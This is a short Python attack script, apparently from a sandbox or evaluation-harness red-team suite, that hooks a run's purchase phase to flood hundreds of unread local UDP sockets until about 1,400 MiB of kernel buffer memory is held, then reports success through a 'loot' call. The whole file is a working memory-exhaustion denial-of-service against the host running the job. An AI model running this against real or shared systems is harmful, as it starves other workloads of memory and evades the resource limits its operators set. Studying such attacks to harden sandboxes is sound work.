"""Fills the queues of UDP sockets that nobody reads, up to 1,400 MiB."""

import socket
import time

from aim import MIB, loot, most_files

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most_files()
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        held, sent, data = [], 0, bytes(60_000)
        end = time.monotonic() + 8
        while sent < 1400 * MIB and time.monotonic() < end:
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 * MIB)
            one.bind(("127.0.0.1", 0))
            held.append(one)
            room = one.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
            for _ in range(room // 66_000 + 1):
                sender.sendto(data, one.getsockname())
            sent += room
        time.sleep(1.2)
        print("held", sent // MIB, len(held), flush=True)
        if sent > 1000 * MIB:
            loot(f"{sent // MIB} MiB in {len(held)} sockets")
